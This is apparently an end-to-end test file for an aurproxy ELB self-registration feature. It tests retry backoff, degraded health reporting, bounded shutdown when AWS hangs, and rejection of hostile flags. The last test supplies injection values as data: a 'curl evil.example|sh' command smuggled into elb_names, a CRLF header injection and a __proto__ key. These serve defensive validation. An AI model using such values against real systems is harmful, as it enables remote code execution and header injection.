/**
 * Self registration through `aurproxy run` when AWS misbehaves or the flags are hostile,
 * end to end (main.ts as a subprocess, real nginx, the local AWS and metadata stand-ins
 * through the environment): a failing registration shows on /health and in metrics and
 * is retried until it succeeds; a hung AWS holds shutdown for the stated bound (5 s of
 * deregistration) and no longer, whether it hangs the deregistration or a registration
 * still in flight; hostile registration flags exit 2 before anything is written or sent.
 */
import { deepStrictEqual, strictEqual } from "node:assert";
import type { AurproxyProcess } from "../../testing/aurproxy_process.ts";
import { runAurproxy } from "../../testing/aurproxy_process.ts";
import { startRunRig } from "../../testing/aws/run_rig.ts";
import { waitFor } from "../../testing/ports.ts";

const INSTANCE = "i-0ccccccccccccccc3";
const ELB = [
  "--registration-class=tellapart.aurproxy.register.elb.ElbSelfRegisterer",
  "--registration-arg=region=us-east-1",
  "--registration-arg=elb_names=web",
];
/** DEFAULT_DEREGISTER_TIMEOUT_MS: what shutdown gives deregistration at most. */
const BOUND_MS = 5000;

async function until(p: AurproxyProcess, what: string, fn: () => unknown, ms = 15_000) {
  try {
    await waitFor(what, fn, ms);
  } catch (err) {
    throw new Error(`${(err as Error).message}\naurproxy:\n${p.log()}`);
  }
}

Deno.test("run: a failing registration is degraded on /health, counted, retried with backoff, and recovers", async () => {
  await using rig = await startRunRig({ instanceId: INSTANCE });
  rig.aws.world.instances.push({ id: INSTANCE });
  // The ELB does not exist yet: AWS answers LoadBalancerNotFound (400, not retried by the SDK).
  strictEqual((await rig.setup(ELB)).code, 0);
  await rig.startNginx();
  const p = await rig.run(ELB);
  await until(p, "two failed attempts", () => rig.aws.callsOf("DescribeLoadBalancers").length >= 2);
  const health = await rig.mgmt("/health");
  // Degraded, never failed: Aurora would restart the task (nginx with it) for nothing.
  strictEqual(health.body, "OK");
  strictEqual(health.headers["x-aurproxy-health"], "degraded");
  strictEqual(
    health.headers["x-aurproxy-health-detail"].includes(
      "registration (elb web): failing for",
    ),
    true,
    health.headers["x-aurproxy-health-detail"],
  );
  const details = (await rig.mgmt("/health/details")).body;
  strictEqual(details.startsWith("DEGRADED\n"), true, details);
  strictEqual(
    details.includes("LoadBalancerNotFound: There is no ACTIVE Load Balancer named 'web'"),
    true,
    details,
  );
  const m = await rig.metrics();
  strictEqual(m["aurproxy.registration_failures.op.register"] >= 2, true, String(m));
  strictEqual(m["aurproxy.registration_registered"], 0);
  const status = JSON.parse((await rig.mgmt("/status/registration.json")).body);
  strictEqual(status.state, "failing");
  strictEqual(status.consecutiveFailures >= 2, true);
  strictEqual(typeof status.nextAttemptAt, "number");
  strictEqual(status.lastError.includes("LoadBalancerNotFound"), true);
  // Backoff: 1 s, then 2 s between attempts (as logged), not a tight loop.
  const [a1, a2] = rig.aws.callsOf("DescribeLoadBalancers").map((c) => c.at);
  strictEqual(a2 - a1 >= 900, true, `${a2 - a1} ms`);
  await p.waitForLine(/failed \(attempt 1\), retrying in 1s: .*LoadBalancerNotFound/);
  await p.waitForLine(/failed \(attempt 2\), retrying in 2s/);

  // The operator creates the ELB: the next retry registers, health is ok again.
  rig.aws.world.addElb("web");
  await until(p, "registered", () => rig.aws.world.elbs.get("web")?.includes(INSTANCE));
  await until(
    p,
    "health ok",
    async () => (await rig.mgmt("/health")).headers["x-aurproxy-health"] === "ok",
  );
  const after = await rig.metrics();
  strictEqual(after["aurproxy.registration_registered"], 1);
  strictEqual(
    after["aurproxy.registration_attempts.op.register"],
    after["aurproxy.registration_failures.op.register"] + 1,
  );
  const prom = (await rig.mgmt("/metrics")).body;
  strictEqual(prom.includes('aurproxy_registration_failures_total{op="register"}'), true, prom);
  strictEqual(prom.includes("aurproxy_registration_registered 1"), true);
  strictEqual((await rig.mgmt("/quitquitquit", "POST")).body, "OK");
  strictEqual((await p.exited).code, 0);
  deepStrictEqual(rig.aws.world.elbs.get("web"), []);
});

Deno.test("run: a hung AWS holds shutdown for the deregistration bound (5 s), no longer", async () => {
  await using rig = await startRunRig({ instanceId: INSTANCE });
  rig.aws.world.instances.push({ id: INSTANCE });
  rig.aws.world.addElb("web");
  strictEqual((await rig.setup(ELB)).code, 0);
  await rig.startNginx();
  const p = await rig.run(ELB);
  await until(p, "registered", () => rig.aws.world.elbs.get("web")?.includes(INSTANCE));
  // From now on AWS accepts connections and never answers.
  rig.aws.fault({ hang: true });
  const asked = performance.now();
  strictEqual((await rig.mgmt("/quitquitquit", "POST")).body, "OK");
  const exit = await p.exited;
  const took = exit.at - asked;
  console.log(`quit to exit with AWS hung: ${Math.round(took)} ms`);
  strictEqual(exit.code, 0, p.log());
  strictEqual(took >= BOUND_MS - 200, true, `${took} ms: the bound is what ended it`);
  strictEqual(took < BOUND_MS + 3000, true, `${took} ms`);
  await p.waitForLine(
    `deregistration from elb web failed: deregistration gave up after ${BOUND_MS} ms`,
  );
  // The rest of the shutdown still ran, after it.
  strictEqual(p.line("shutdown complete") !== undefined, true, p.log());
  strictEqual(rig.aws.callsOf("DescribeLoadBalancers").at(-1)?.refused, "hang");
});

Deno.test("run: SIGTERM while the registration itself hangs: aborted, deregistration bounded, exit within 5 s", async () => {
  await using rig = await startRunRig({ instanceId: INSTANCE });
  rig.aws.world.instances.push({ id: INSTANCE });
  rig.aws.world.addElb("web");
  rig.aws.fault({ hang: true });
  strictEqual((await rig.setup(ELB)).code, 0);
  await rig.startNginx();
  const p = await rig.run(ELB);
  await until(p, "the registration in flight", () => rig.aws.calls.length >= 1);
  const asked = performance.now();
  p.kill("SIGTERM");
  const exit = await p.exited;
  const took = exit.at - asked;
  console.log(`SIGTERM to exit with the registration hung: ${Math.round(took)} ms`);
  strictEqual(exit.code, 0, p.log());
  strictEqual(took < BOUND_MS + 3000, true, `${took} ms`);
  strictEqual(p.line("registered with elb web"), undefined);
  strictEqual(p.line("shutdown complete") !== undefined, true, p.log());
  deepStrictEqual(rig.aws.world.elbs.get("web"), []);
});

Deno.test("run: hostile registration flags exit 2 naming each problem; nothing written, nothing sent", async () => {
  await using rig = await startRunRig({ instanceId: INSTANCE });
  const hostile = [
    "--registration-class=ElbSelfRegisterer",
    "--registration-arg=region=us-east-1.evil.example",
    "--registration-arg=elb_names=web;curl evil.example|sh",
    "--registration-arg=access_key=AKID\r\nX-Injected: 1",
    "--registration-arg=secret_key=top secret",
    "--registration-arg=__proto__=x",
  ];
  for (const setup of [true, false]) {
    const r = await runAurproxy([
      "run",
      ...(setup ? ["--setup"] : []),
      `--management-port=${rig.mgmtPort}`,
      `--config=${rig.configPath}`,
      ...hostile,
    ], { env: rig.env });
    strictEqual(r.code, 2, r.stderr);
    const lines = r.stderr.trim().split("\n");
    deepStrictEqual(lines.map((l) => l.slice(0, l.indexOf(":", 14))), [
      "aurproxy run: --registration-arg __proto__",
      "aurproxy run: --registration-arg region",
      "aurproxy run: --registration-arg access_key",
      "aurproxy run: --registration-arg secret_key",
      "aurproxy run: --registration-arg elb_names",
    ], r.stderr);
    strictEqual(r.stderr.includes("top secret"), false, "the secret is not shown");
  }
  deepStrictEqual([...Deno.readDirSync(rig.dir)].map((e) => e.name), ["config.json"]);
  strictEqual(rig.aws.calls.length, 0);
  strictEqual(rig.metadata.requests.length, 0);
});
